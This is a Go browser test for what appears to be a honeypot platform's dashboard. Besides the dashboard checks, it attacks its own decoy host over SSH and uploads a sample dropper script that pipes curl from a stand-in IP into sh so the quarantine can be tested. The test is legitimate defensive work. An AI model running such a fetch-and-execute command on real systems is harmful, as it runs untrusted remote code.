package web_test

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/chromedp"

	"github.com/decnet/decnet/internal/testenv"
)

// TestDashboardInChromium runs `decnet up --driver host`, signs in to the
// dashboard in Debian's Chromium (with the forced password change), sees
// an SSH attack made during the test reach the live feed without a reload,
// filters events through the form, opens the attacker and replays its
// session, makes an alert rule in the editor that fires on failed logins
// and handles the alert, and makes a join command on the hosts page. Every page must load
// without a console error, and each gets a screenshot in DECNET_SCREENSHOTS
// (default a temporary directory).
func TestDashboardInChromium(t *testing.T) {
	testenv.RequireRoot(t)
	chromium := testenv.RequireTool(t, "chromium")
	sshpass := testenv.RequireTool(t, "sshpass")
	bin := testenv.DecnetBinary(t)
	shots := os.Getenv("DECNET_SCREENSHOTS")
	if shots == "" {
		shots = t.TempDir()
	}
	if err := os.MkdirAll(shots, 0o755); err != nil {
		t.Fatal(err)
	}

	up := testenv.StartUp(t, bin)
	out := up.Out
	pw, gw := []string{"", up.Password}, []string{"", up.Gateway}
	base := strings.TrimSuffix(up.Dashboard, "/")

	b := startBrowser(t, chromium)
	ctx := b.ctx
	checkConsole := func(page string) {
		t.Helper()
		if errs := b.consoleErrors(); len(errs) > 0 {
			t.Errorf("console errors on %s:\n%s", page, strings.Join(errs, "\n"))
		}
	}
	run := func(what string, actions ...chromedp.Action[chromedp.Void]) {
		t.Helper()
		tctx, tcancel := context.WithTimeout(ctx, 30*time.Second)
		defer tcancel()
		if err := chromedp.Do(tctx, actions...); err != nil {
			t.Fatalf("%s: %v\n%s", what, err, out.String())
		}
	}
	shot := func(name string) {
		t.Helper()
		tctx, tcancel := context.WithTimeout(ctx, 30*time.Second)
		defer tcancel()
		png, err := chromedp.Run(tctx, chromedp.FullScreenshot(100)) // 100 means PNG
		if err != nil {
			t.Fatalf("screenshot %s: %v", name, err)
		}
		p := filepath.Join(shots, name+".png")
		if err := os.WriteFile(p, png, 0o644); err != nil {
			t.Fatal(err)
		}
		t.Logf("screenshot: %s", p)
		checkConsole(name)
		// What a screen reader needs: a label for every visible control, a
		// name for every button and link, one h1, and a title.
		problems, err := chromedp.Run(tctx, chromedp.Evaluate[[]string](a11yAudit))
		if err != nil {
			t.Fatalf("accessibility audit of %s: %v", name, err)
		}
		if len(problems) > 0 {
			t.Errorf("accessibility problems on %s:\n%s", name, strings.Join(problems, "\n"))
		}
	}
	// waitFor polls a predicate across navigations, which break a Poll.
	waitFor := func(what, js string, d time.Duration) {
		t.Helper()
		end := time.Now().Add(d)
		for {
			tctx, tcancel := context.WithTimeout(ctx, 5*time.Second)
			ok, err := chromedp.Run(tctx, chromedp.Evaluate[bool](js))
			tcancel()
			if err == nil && ok {
				return
			}
			if time.Now().After(end) {
				loc, _ := chromedp.Run(ctx, chromedp.Location())
				body, _ := chromedp.Run(ctx, chromedp.Evaluate[string](`document.body ? document.body.innerText.slice(0, 2000) : ''`))
				t.Fatalf("%s: not within %v (last error %v) at %s:\n%s", what, d, err, loc, body)
			}
			time.Sleep(100 * time.Millisecond)
		}
	}
	// reloadUntil reloads the page until a predicate holds: what the
	// page shows comes from the database, which consumers fill in their
	// own time.
	reloadUntil := func(what, js string, d time.Duration) {
		t.Helper()
		for end := time.Now().Add(d); ; {
			ok, err := chromedp.Run(ctx, chromedp.Evaluate[bool](js))
			if err == nil && ok {
				return
			}
			if time.Now().After(end) {
				t.Fatalf("%s: not within %v", what, d)
			}
			time.Sleep(500 * time.Millisecond)
			run("reload for "+what, chromedp.Reload())
		}
	}
	location := func() string {
		t.Helper()
		loc, err := chromedp.Run(ctx, chromedp.Location())
		if err != nil {
			t.Fatal(err)
		}
		return loc
	}

	// Sign in, with the forced password change.
	run("open the dashboard", chromedp.Navigate(base+"/"), chromedp.WaitVisible("#login-form"))
	shot("01-login")
	run("sign in", chromedp.SendKeys("#username", "admin"), chromedp.SendKeys("#password", pw[1]),
		chromedp.Click(`#login-form button[type="submit"]`), chromedp.WaitVisible("#change-form"))
	shot("02-change-password")
	newPW := "correct horse battery staple"
	run("change the password", chromedp.SendKeys("#new", newPW), chromedp.SendKeys("#confirm", newPW),
		chromedp.Click(`#change-form button[type="submit"]`))
	waitFor("the overview's live feed", `document.readyState === 'complete' && !!document.querySelector('#feed[data-state="open"]')`, 15*time.Second)
	shot("03-overview")

	// An SSH attack made now reaches the live feed without a reload.
	// It is an interactive session on a terminal (-tt), so the decky
	// records it.
	ssh := exec.Command(sshpass, "-p", "toor", "ssh", "-tt", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
		"root@"+gw[1])
	stdin, err := ssh.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	var sshOut bytes.Buffer
	ssh.Stdout, ssh.Stderr = &sshOut, &sshOut
	if err := ssh.Start(); err != nil {
		t.Fatal(err)
	}
	for _, line := range []string{"uname -a\n", "cat /etc/hostname\n", "exit\n"} {
		time.Sleep(time.Second)
		if _, err := io.WriteString(stdin, line); err != nil {
			t.Fatalf("ssh session: %v\n%s", err, sshOut.String())
		}
	}
	if err := ssh.Wait(); err != nil {
		t.Fatalf("ssh to the demo: %v %s", err, sshOut.String())
	}
	// And a file dropped with scp, which the decky quarantines.
	dropped := filepath.Join(t.TempDir(), "x.sh")
	const droppedBody = "#!/bin/sh\ncurl -s http://198.51.100.23/m | sh\n"
	if err := os.WriteFile(dropped, []byte(droppedBody), 0o644); err != nil {
		t.Fatal(err)
	}
	if o, err := exec.Command(sshpass, "-p", "toor", "scp", "-O", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
		dropped, "root@"+gw[1]+":/tmp/x.sh").CombinedOutput(); err != nil {
		t.Fatalf("scp to the demo: %v %s", err, o)
	}
	run("see the attack in the live feed", chromedp.Poll[chromedp.Void](
		`[...document.querySelectorAll('#feed li')].some(li => li.textContent.includes('ssh.login.success'))`,
		chromedp.WithPollingTimeout(20*time.Second)))
	shot("04-overview-live")

	// Filter events through the form; the filter lands in the URL.
	run("open events", chromedp.Navigate(base+"/events"), chromedp.WaitVisible("#filters"))
	shot("05-events")
	run("filter by type", chromedp.SendKeys(`#filters input[name="type"]`, "ssh.login.success"),
		chromedp.Click(`#filters button[type="submit"]`))
	waitFor("the filtered page", `location.search.includes('type=ssh.login.success') && document.readyState === 'complete'`, 15*time.Second)
	// The feed is fed by the bus, the list by the database: the ingester
	// may still be writing the login, so reload until it is listed.
	reloadUntil("the ssh login on the filtered events page", `document.querySelectorAll('ol.events details summary').length > 0`, 15*time.Second)
	if loc := location(); !strings.Contains(loc, "type=ssh.login.success") || strings.Contains(loc, "decky=") {
		t.Fatalf("the URL does not hold the filter alone: %s", loc)
	}
	types, err := chromedp.Run(ctx, chromedp.Evaluate[[]string](`[...document.querySelectorAll('ol.events .type')].map(e => e.textContent)`))
	if err != nil || len(types) == 0 {
		t.Fatalf("filtered events: %v %v", types, err)
	}
	for _, ty := range types {
		if ty != "ssh.login.success" {
			t.Fatalf("the filter let %q through", ty)
		}
	}
	run("expand a row", chromedp.Click(`ol.events details summary`), chromedp.WaitVisible(`ol.events details[open] pre.raw`))
	shot("06-events-filtered")

	// Open the attacker and replay its session.
	run("open attackers", chromedp.Navigate(base+"/attackers"), chromedp.WaitVisible(`table tbody th a`))
	shot("07-attackers")
	run("open the attacker", chromedp.Click(`table tbody th a`))
	waitFor("the attacker page", `document.readyState === 'complete' && !!document.getElementById('timeline-h')`, 15*time.Second)
	shot("08-attacker")
	run("replay the session", chromedp.Click(`button.replay`), chromedp.Poll[chromedp.Void](
		`document.querySelector('pre.term').dataset.state === 'done' && document.querySelector('pre.term').textContent.includes('uname -a')`,
		chromedp.WithPollingTimeout(20*time.Second)))
	shot("09-attacker-replayed")
	// The recording of the same session, played in the browser from the
	// master's copy (the agent uploads it when the session ends).
	for end := time.Now().Add(20 * time.Second); ; {
		n, err := chromedp.Run(ctx, chromedp.Evaluate[int](`document.querySelectorAll('button.play-cast, a[download$=".bin"]').length`))
		if err == nil && n > 1 {
			break
		}
		if time.Now().After(end) {
			t.Fatal("the session's recording or the dropped file never reached the attacker page")
		}
		time.Sleep(500 * time.Millisecond)
		run("reload the attacker", chromedp.Reload())
		waitFor("the attacker page", `document.readyState === 'complete' && !!document.getElementById('timeline-h')`, 15*time.Second)
	}
	run("play the recording", chromedp.Click(`button.play-cast`), chromedp.Poll[chromedp.Void](
		`(() => { const s = document.querySelector('pre.screen'); return s.dataset.state === 'done' &&
		   s.textContent.includes('uname -a') && s.textContent.includes('Linux') && s.textContent.includes('cat /etc/hostname'); })()`,
		chromedp.WithPollingTimeout(30*time.Second)))
	shot("09b-attacker-recording")
	// The dropped file is listed with its hash, and an admin downloads the
	// master's copy.
	got, err := chromedp.Run(ctx, chromedp.Evaluate[string](`(async () => {
		const a = document.querySelector('a[download$=".bin"]');
		if (!a) return 'no download link';
		return await (await fetch(a.href)).text();
	})()`, chromedp.EvalAwaitPromise))
	if err != nil || got != droppedBody {
		t.Fatalf("download of the dropped file: %q %v", got, err)
	}

	run("open credentials", chromedp.Navigate(base+"/credentials"), chromedp.WaitVisible(`table`))
	shot("10-credentials")

	// Identities and campaigns: one client key offered from two more
	// addresses links them into an identity; the same file dropped from a
	// fourth address puts its identity and the first attacker's in a
	// campaign.
	key := filepath.Join(t.TempDir(), "id_ed25519")
	if o, err := exec.Command("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key).CombinedOutput(); err != nil {
		t.Fatalf("ssh-keygen: %v %s", err, o)
	}
	for _, src := range []string{"127.0.0.2", "127.0.0.3"} {
		o, err := exec.Command("ssh", "-b", src, "-i", key, "-o", "IdentitiesOnly=yes", "-o", "BatchMode=yes", "-o", "PreferredAuthentications=publickey",
			"-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "root@"+gw[1], "id").CombinedOutput()
		if err == nil || !strings.Contains(string(o), "denied") {
			t.Fatalf("the key from %s was not refused: %v %s", src, err, o)
		}
	}
	if o, err := exec.Command(sshpass, "-p", "toor", "scp", "-O", "-o", "BindAddress=127.0.0.4", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
		dropped, "root@"+gw[1]+":/tmp/y.sh").CombinedOutput(); err != nil {
		t.Fatalf("scp from 127.0.0.4: %v %s", err, o)
	}
	run("open identities", chromedp.Navigate(base+"/identities"))
	reloadUntil("the identity of the two addresses", `!!document.querySelector('#identities tbody tr') &&
		document.querySelector('#identities tbody tr').textContent.includes('127.0.0.2, 127.0.0.3')`, 30*time.Second)
	shot("10b-identities")
	run("open the identity", chromedp.Click(`#identities tbody th a`))
	waitFor("the identity page", `document.readyState === 'complete' && !!document.getElementById('why-h') &&
		document.querySelector('#links').textContent.includes('SSH client key')`, 15*time.Second)
	shot("10c-identity")
	// Its exports download from the page.
	exported, err := chromedp.Run(ctx, chromedp.Evaluate[string](`(async () => {
		const out = [];
		for (const a of document.querySelectorAll('a[href^="/api/v1/exports/"]')) {
			const r = await fetch(a.href);
			const j = await r.json();
			out.push(r.status + ' ' + (j.type || Object.keys(j)[0]));
		}
		return out.join(', ');
	})()`, chromedp.EvalAwaitPromise))
	if err != nil || exported != "200 bundle, 200 Event" {
		t.Fatalf("the identity's exports: %q %v", exported, err)
	}
	run("open campaigns", chromedp.Navigate(base+"/campaigns"))
	reloadUntil("the campaign of the dropped file", `!!document.querySelector('#campaigns tbody tr') &&
		document.querySelector('#campaigns tbody tr').textContent.includes('127.0.0.4')`, 30*time.Second)
	run("open the campaign", chromedp.Click(`#campaigns tbody th a`))
	waitFor("the campaign page", `document.readyState === 'complete' && document.querySelector('#links').textContent.includes('payload')`, 15*time.Second)
	shot("10d-campaign")
	// Attackers: search and sort through the form.
	run("search attackers", chromedp.Navigate(base+"/attackers"), chromedp.WaitVisible(`form[role="search"]`),
		chromedp.SendKeys(`form[role="search"] input[name="q"]`, "127.0.0.4"), chromedp.SetValue(`select[name="sort"]`, "score"),
		chromedp.Click(`form[role="search"] button[type="submit"]`))
	waitFor("the search result", `location.search.includes('q=127.0.0.4') && location.search.includes('sort=score') &&
		document.readyState === 'complete' && document.querySelectorAll('#attackers tbody tr').length === 1`, 15*time.Second)
	shot("10e-attackers-search")
	// Event rows carry their ATT&CK tags, which link to the tag's events.
	run("events of a tag", chromedp.Navigate(base+"/events?tag=T1021.004&range=1h"))
	reloadUntil("a tagged event row", `[...document.querySelectorAll('ol.events a.tag')].some(a => a.textContent === 'T1021.004')`, 30*time.Second)
	shot("10f-events-tagged")

	// Alerts: a rule made in the editor ("3 ssh.login.failed from one
	// source within 60 s") raises an alert on real failed logins; it is
	// acknowledged and closed from the alerts page.
	run("open alert rules", chromedp.Navigate(base+"/alert-rules"), chromedp.WaitVisible(`#rule-form`))
	waitFor("the rule form filled", `(() => { const f = document.getElementById('rule-form');
		f.name.value = 'ssh brute force'; f.types.value = 'ssh.login.failed'; f.severity.value = '3';
		f.kind.value = 'threshold'; f.kind.dispatchEvent(new Event('change'));
		f.count.value = '3'; f.window.value = '60s'; return !f.count.closest('label').hidden; })()`, 5*time.Second)
	run("create the rule", chromedp.Click(`#rule-submit`))
	waitFor("the rule listed", `document.readyState === 'complete' && [...document.querySelectorAll('#alert-rules tr[data-rule]')].some(r =>
		r.textContent.includes('ssh brute force') && r.textContent.includes('3 from one source within 1m0s'))`, 15*time.Second)
	run("edit the rule", chromedp.Click(`#alert-rules tr[data-rule]:has(button[data-action="edit"]):nth-last-child(1) button[data-action="edit"]`))
	waitFor("the editor holds the rule", `(() => { const f = document.getElementById('rule-form');
		return f.kind.value === 'threshold' && f.count.value === '3' && f.types.value === 'ssh.login.failed' &&
			document.getElementById('rule-submit').textContent === 'Save rule'; })()`, 5*time.Second)
	shot("10a-alert-rule-editor")
	waitFor("the description set", `(() => { document.getElementById('rule-form').description.value = 'password guessing on SSH'; return true; })()`, 5*time.Second)
	run("save the rule", chromedp.Click(`#rule-submit`))
	waitFor("the edited rule listed", `document.readyState === 'complete' && document.getElementById('rule-cancel').hidden &&
		[...document.querySelectorAll('#alert-rules tr[data-rule]')].some(r => r.textContent.includes('password guessing on SSH'))`, 15*time.Second)
	for range 3 {
		if o, err := exec.Command(sshpass, "-p", "wrong-password", "ssh", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
			"-o", "NumberOfPasswordPrompts=1", "-o", "PreferredAuthentications=password", "root@"+gw[1], "id").CombinedOutput(); err == nil {
			t.Fatalf("a wrong password was accepted: %s", o)
		}
	}
	run("open alerts", chromedp.Navigate(base+"/alerts"))
	reloadUntil("the alert on the alerts page", `!!document.querySelector('#alerts tr[data-alert][data-status="open"]')`, 20*time.Second)
	waitFor("the threat level high", `document.getElementById('threat').dataset.level === 'high' &&
		document.querySelector('#alerts tr[data-alert] [data-role="count"]').textContent === '3'`, 5*time.Second)
	shot("10b-alerts")
	run("acknowledge", chromedp.Click(`#alerts tr[data-alert] button[data-action="ack"]`))
	waitFor("acknowledged", `document.readyState === 'complete' && document.querySelector('#alerts tr[data-alert]')?.dataset.status === 'acknowledged'`, 15*time.Second)
	run("close", chromedp.Click(`#alerts tr[data-alert] button[data-action="close"]`))
	waitFor("closed", `document.readyState === 'complete' && document.querySelector('#alerts tr[data-alert]')?.dataset.status === 'closed' &&
		document.getElementById('threat').dataset.level === 'none'`, 15*time.Second)
	shot("10c-alerts-closed")

	// The agent join flow.
	run("open hosts", chromedp.Navigate(base+"/hosts"), chromedp.WaitVisible(`#join-form`))
	waitFor("the local host in sync with the demo", `document.querySelector('tr[data-host="local"] [data-role="sync"]').textContent === 'synced'`, 5*time.Second)
	shot("11-hosts")
	run("make a join command", chromedp.SendKeys(`#join-form input[name="name"]`, "sensor-1"), chromedp.Click(`#join-form button`),
		chromedp.WaitVisible(`#join-result`))
	cmdText, err := chromedp.Run(ctx, chromedp.Text(`#join-command`))
	if err != nil || !strings.Contains(cmdText, "decnet agent join --master") || !strings.Contains(cmdText, "--ca-hash sha256:") ||
		strings.Contains(cmdText, ":0 ") {
		t.Fatalf("join command %q: %v", cmdText, err)
	}
	// The command works as shown (into a directory of the test).
	args := strings.Fields(strings.Replace(cmdText, "/var/lib/decnet/agent", t.TempDir(), 1))
	if len(args) < 3 || args[0] != "decnet" {
		t.Fatalf("join command %q", cmdText)
	}
	if o, err := exec.Command(bin, args[1:]...).CombinedOutput(); err != nil {
		t.Fatalf("the join command failed: %v\n%s", err, o)
	}
	shot("12-hosts-join")

	// Topologies: tear the demo down from the list (the host runs one live
	// topology at a time), create a small one from the generator, deploy it
	// from its page and see the map's badge turn active without a reload.
	run("open topologies", chromedp.Navigate(base+"/topologies"), chromedp.WaitVisible(`#gen-form`),
		chromedp.WaitVisible(`#topologies tr[data-name="demo"]`))
	shot("12a-topologies")
	run("tear the demo down", chromedp.Click(`#topologies tr[data-name="demo"] button[data-action="teardown"]`))
	waitFor("the demo torn down", `document.querySelector('#topologies tr[data-name="demo"] [data-role="status"]').textContent === 'torn_down'`, 90*time.Second)
	fill := func(name string, min, max int) string {
		return fmt.Sprintf(`(() => { const f = document.getElementById('gen-form');
			if (![...f.host.options].some(o => o.value === 'local')) return false;
			f.name.value = %q; f.host.value = 'local'; f.depth.value = '1'; f.branching.value = '1';
			f.deckies_min.value = '%d'; f.deckies_max.value = '%d'; f.seed.value = '7'; f.services.value = 'http, ftp'; f.subnet_base.value = '127.42.0.0/16'; return true; })()`, name, min, max)
	}
	// The host driver binds loopback subnets only, hence the subnet base.
	// An invalid shape: the API's error and its code show beside the form.
	waitFor("the form filled with a bad shape", fill("small", 3, 2), 15*time.Second)
	run("submit the bad shape", chromedp.Click(`#gen-form button[type="submit"]`))
	waitFor("the validation error", `document.getElementById('gen-errors').textContent.includes('INVALID') && document.getElementById('gen-errors').textContent.includes('deckies-max') && document.querySelector('#gen-form [name="deckies_max"]').getAttribute('aria-invalid') === 'true'`, 15*time.Second)
	dropBadRequest := func() { // the browser logs the 400 of the refused create
		b.mu.Lock()
		defer b.mu.Unlock()
		b.errs = slices.DeleteFunc(b.errs, func(m string) bool { return strings.Contains(m, "status of 400") })
	}
	dropBadRequest()
	shot("12b-topologies-invalid")
	waitFor("the form filled", fill("small", 1, 1), 15*time.Second)
	run("create from the generator", chromedp.Click(`#gen-form button[type="submit"]`))
	waitFor("the new topology's page", `location.pathname.startsWith('/topologies/') && document.readyState === 'complete' && !!document.getElementById('netmap')`, 15*time.Second)
	waitFor("a pending map", `document.getElementById('topo-status').textContent === 'pending' && document.querySelectorAll('#netmap g.decky').length >= 2 && document.querySelectorAll('#netmap line.link').length >= 1`, 5*time.Second)
	waitFor("mark the page", `(window.decnetNoReload = true)`, 5*time.Second)
	run("deploy", chromedp.Click(`#topology button[data-action="deploy"]`))
	waitFor("the badge turns active without a reload", `window.decnetNoReload === true && document.getElementById('topo-status').textContent === 'active' && document.getElementById('netmap').dataset.state === 'active'`, 120*time.Second)
	waitFor("every decky reported running", `(() => { const gs = [...document.querySelectorAll('#netmap g.decky')];
		return gs.length >= 2 && gs.every(g => g.dataset.state === 'running'); })()`, 30*time.Second)
	shot("12c-topology-map")

	// Service settings: give the first decky's web server a WordPress
	// front through its form; the master re-pushes, and the decky serves
	// it.
	ip, err := chromedp.Run(ctx, chromedp.Text(`#deckies-h ~ table tbody tr td:nth-child(3)`))
	if err != nil || ip == "" {
		t.Fatalf("the first decky's address: %q %v", ip, err)
	}
	wpStatus := func() int {
		resp, err := http.Get("http://" + ip + "/wp-login.php")
		if err != nil {
			return 0
		}
		resp.Body.Close()
		return resp.StatusCode
	}
	if code := wpStatus(); code == http.StatusOK {
		t.Fatalf("the decky serves /wp-login.php before it is configured to")
	}
	run("open the first decky's settings", chromedp.Click(`details.svc-node summary`),
		chromedp.WaitVisible(`form.svc-settings[data-ready="true"] select[name="http.fake_app"]`))
	run("choose wordpress", chromedp.SetValue(`form.svc-settings select[name="http.fake_app"]`, "wordpress"),
		chromedp.Click(`form.svc-settings button[type="submit"]`))
	waitFor("saved", `(document.querySelector('.svc-status')?.textContent || '').includes('Saved; version')`, 15*time.Second)
	shot("12c2-topology-settings")
	waitFor("active again with the new hash", `document.getElementById('topo-status').textContent === 'active' &&
		[...document.querySelectorAll('#netmap g.decky')].every(g => g.dataset.state === 'running')`, 120*time.Second)
	for end := time.Now().Add(30 * time.Second); wpStatus() != http.StatusOK; {
		if time.Now().After(end) {
			t.Fatalf("the decky at %s never served /wp-login.php after the settings change", ip)
		}
		time.Sleep(500 * time.Millisecond)
	}
	run("back to the list", chromedp.Navigate(base+"/topologies"), chromedp.WaitVisible(`#topologies tr[data-name="small"]`))
	if st, err := chromedp.Run(ctx, chromedp.Text(`#topologies tr[data-name="small"] [data-role="status"]`)); err != nil || st != "active" {
		t.Fatalf("the list shows small as %q: %v", st, err)
	}
	shot("12d-topologies-after")

	// Create from a pasted spec: the check draws the spec with the
	// overlapping LAN marked; fixed, it is created.
	pasted := "name: pasted\nhost: local\nseed: 0badc0de0badc0de0badc0de0badc0de\nlans:\n" +
		"  - {name: front, subnet: 127.44.0.0/24, dmz: true}\n  - {name: back, subnet: 127.44.0.0/25}\n" +
		"deckies:\n  - name: files\n    persona: {os: linux, distro: debian}\n    addresses: [{lan: front}, {lan: back}]\n    services: [ftp]\n"
	setSource := func(doc string) string {
		return fmt.Sprintf(`(() => { document.getElementById('source').value = %q; return true; })()`, doc)
	}
	run("open the new topology page", chromedp.Click(`a[href="/topologies/new"]`))
	waitFor("the new topology page", `document.readyState === 'complete' && document.getElementById('src-form')?.dataset.ready === 'true'`, 15*time.Second)
	waitFor("paste a spec", setSource(pasted), 5*time.Second)
	run("check it", chromedp.Click(`#src-check`))
	waitFor("the overlap drawn on its LAN", `document.getElementById('src-summary').textContent.startsWith('Invalid') &&
		!!document.querySelector('#src-preview g.lan.issue-error[data-lan="back"]') &&
		document.getElementById('src-issues').textContent.includes('SUBNET_OVERLAP')`, 15*time.Second)
	shot("12e-topology-new-invalid")
	waitFor("fix the spec", setSource(strings.Replace(pasted, "127.44.0.0/25", "127.45.0.0/24", 1)), 5*time.Second)
	run("check it again", chromedp.Click(`#src-check`))
	waitFor("a valid spec drawn", `document.getElementById('src-summary').textContent.startsWith('Valid') &&
		document.querySelectorAll('#src-preview g.decky').length === 1 && !document.querySelector('#src-preview .issue-error')`, 15*time.Second)
	run("create it", chromedp.Click(`#src-form button[type="submit"]`))
	waitFor("the pasted topology's page", `location.pathname.startsWith('/topologies/') && document.readyState === 'complete' &&
		!!document.getElementById('netmap') && document.title.includes('pasted')`, 15*time.Second)
	shot("12f-topology-pasted")

	// Outputs: a webhook to a receiver of this test, test-fired; a second
	// one to a closed port shows its failure.
	var hookMu sync.Mutex
	var hookBodies []string
	hook := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
		hookMu.Lock()
		hookBodies = append(hookBodies, r.Header.Get("X-Decnet-Signature")+" "+string(b))
		hookMu.Unlock()
	}))
	defer hook.Close()
	closed := httptest.NewServer(http.NotFoundHandler())
	closedURL := closed.URL
	closed.Close()
	addOutput := func(name, url string) {
		t.Helper()
		waitFor("the outputs form", `document.getElementById('out-form')?.dataset.ready === 'true'`, 15*time.Second)
		run("add output "+name, chromedp.SetValue(`#out-form select[name="kind"]`, "webhook"),
			chromedp.SendKeys(`#out-form input[name="name"]`, name), chromedp.SendKeys(`#out-form input[name="url"]`, url),
			chromedp.SendKeys(`#out-form input[name="secret"]`, "a-webhook-secret-of-32-bytes-ok!"),
			chromedp.Click(`#out-form input[name="allow_private"]`), // the receivers listen on loopback
			chromedp.Click(`#out-submit`))
		waitFor("output "+name+" listed", fmt.Sprintf(`document.readyState === 'complete' && !!document.querySelector('#outputs tr[data-name=%q]')`, name), 15*time.Second)
	}
	run("open outputs", chromedp.Navigate(base+"/outputs"))
	shot("13a-outputs-empty")
	addOutput("siem", hook.URL+"/hook")
	run("test-fire siem", chromedp.Click(`#outputs tr[data-name="siem"] button[data-action="test"]`))
	waitFor("the test delivered", `document.getElementById('out-action').textContent.includes('siem: the test event was delivered')`, 30*time.Second)
	hookMu.Lock()
	fired := strings.Join(hookBodies, "\n")
	hookMu.Unlock()
	if !strings.Contains(fired, "system.output.test") {
		t.Fatalf("the receiver got no test event: %q", fired)
	}
	addOutput("broken", closedURL+"/hook")
	run("test-fire broken", chromedp.Click(`#outputs tr[data-name="broken"] button[data-action="test"]`))
	waitFor("the failure shown", `document.getElementById('out-action').textContent.includes('broken: the test failed') &&
		document.querySelector('#outputs tr[data-name="broken"] [data-role="last-test"]').textContent.startsWith('failed')`, 60*time.Second)
	dropBadRequest()
	shot("13b-outputs")

	// Canary tokens: make a URL token and a Word document token, copy the
	// URL, download the document (a zip with the URL inside), fetch the
	// URL as a victim would, and see the trigger on the token's page.
	run("open tokens", chromedp.Navigate(base+"/tokens"))
	waitFor("the token form", `document.getElementById('token-form')?.dataset.ready === 'true'`, 15*time.Second)
	shot("13d-tokens-empty")
	makeToken := func(kind, memo string) {
		t.Helper()
		waitFor("the token form", `document.getElementById('token-form')?.dataset.ready === 'true'`, 15*time.Second)
		run("make a "+kind+" token", chromedp.SetValue(`#token-form select[name="kind"]`, kind),
			chromedp.SendKeys(`#token-form input[name="memo"]`, memo), chromedp.Click(`#token-form button[type="submit"]`))
		waitFor(kind+" token listed", fmt.Sprintf(`document.readyState === 'complete' && !!document.querySelector('#tokens tr[data-kind=%q]')`, kind), 15*time.Second)
	}
	makeToken("http", "link in the finance wiki")
	makeToken("docx", "salary review on the HR share")
	run("copy the URL", chromedp.Click(`#tokens tr[data-kind="http"] button[data-action="copy"]`))
	waitFor("copied", `(document.getElementById('token-action').dataset.copied || '').includes('/docs/')`, 5*time.Second)
	tokenURL, err := chromedp.Run(ctx, chromedp.Evaluate[string](`document.getElementById('token-action').dataset.copied`))
	if err != nil {
		t.Fatal(err)
	}
	doc, err := chromedp.Run(ctx, chromedp.Evaluate[string](`(async () => {
		const a = document.querySelector('#tokens tr[data-kind="docx"] a[data-role="download"]');
		const r = await fetch(a.href);
		const b = new Uint8Array(await r.arrayBuffer());
		return r.headers.get('content-disposition') + ' ' + String.fromCharCode(b[0], b[1]) + ' ' + b.length;
	})()`, chromedp.EvalAwaitPromise))
	if err != nil || !strings.Contains(doc, `filename="Q3-salary-review.docx"`) || !strings.Contains(doc, " PK ") {
		t.Fatalf("the docx download: %q %v", doc, err)
	}
	shot("13e-tokens")
	resp, err := http.Get(tokenURL)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	run("open the token", chromedp.Click(`#tokens tr[data-kind="http"] th a`))
	reloadUntil("the trigger on the token's page", `!!document.querySelector('#triggers a[data-role="src"]')`, 30*time.Second)
	shot("13f-token-triggers")

	// The dark theme follows the system's preference.
	dark := chromedp.Func(func(ctx context.Context, tg *chromedp.Target) error {
		_, err := cdp.Call(ctx, tg, emulation.SetEmulatedMedia, emulation.SetEmulatedMediaParams{
			Features: []*emulation.MediaFeature{{Name: "prefers-color-scheme", Value: "dark"}}})
		return err
	})
	run("switch to dark", dark, chromedp.Navigate(base+"/"))
	waitFor("the overview in the dark theme", `document.readyState === 'complete' && matchMedia('(prefers-color-scheme: dark)').matches &&
		getComputedStyle(document.body).backgroundColor !== 'rgb(247, 247, 248)'`, 15*time.Second)
	shot("13c-overview-dark")

	run("open users", chromedp.Navigate(base+"/users"), chromedp.WaitVisible(`#user-form`))
	shot("14-users")

	run("sign out", chromedp.Click(`#logout`))
	waitFor("the sign-in page", `document.readyState === 'complete' && !!document.getElementById('login-form') && !document.getElementById('login-form').hidden`, 15*time.Second)
	checkConsole("sign out")
	t.Logf("screenshots: %s", shots)
}

// a11yAudit lists what a screen reader user would miss on the page.
const a11yAudit = `(() => {
  const out = [];
  const shown = (el) => el.getClientRects().length > 0;
  const desc = (el) => el.outerHTML.slice(0, 120);
  for (const el of document.querySelectorAll('input, select, textarea')) {
    if (el.type === 'hidden' || !shown(el)) continue;
    if (!(el.labels && el.labels.length) && !el.getAttribute('aria-label') && !el.getAttribute('aria-labelledby')) out.push('unlabelled control: ' + desc(el));
  }
  for (const el of document.querySelectorAll('button, a[href]')) {
    if (!shown(el)) continue;
    if (!el.textContent.trim() && !el.getAttribute('aria-label') && !el.getAttribute('title')) out.push('nameless ' + el.tagName.toLowerCase() + ': ' + desc(el));
  }
  if (document.querySelectorAll('h1').length !== 1) out.push(document.querySelectorAll('h1').length + ' h1 elements');
  if (!document.title.trim()) out.push('no title');
  if (!document.documentElement.lang) out.push('no lang');
  for (const el of document.querySelectorAll('svg[role="img"]')) {
    if (!el.getAttribute('aria-label') && !el.getAttribute('aria-labelledby') && !el.querySelector('title')) out.push('svg image without a name');
  }
  return out;
})()`

// browser is a headless Chromium for one test, collecting the console's
// errors.
type browser struct {
	ctx  context.Context
	mu   sync.Mutex
	errs []string
}

// startBrowser starts Debian's Chromium; it stops when the test ends.
// Console errors holding one of ignore are not collected.
func startBrowser(t *testing.T, chromium string, ignore ...string) *browser {
	t.Helper()
	opts := append(chromedp.DefaultExecAllocatorOptions[:], chromedp.ExecPath(chromium), chromedp.Headless, chromedp.NoSandbox,
		chromedp.IgnoreCertErrors, chromedp.DisableGPU, chromedp.WindowSize(1366, 900))
	allocCtx, cancelAlloc := chromedp.NewExecAllocator(context.Background(), opts...)
	ctx, cancel := chromedp.NewContext(allocCtx)
	t.Cleanup(func() { cancel(); cancelAlloc() })
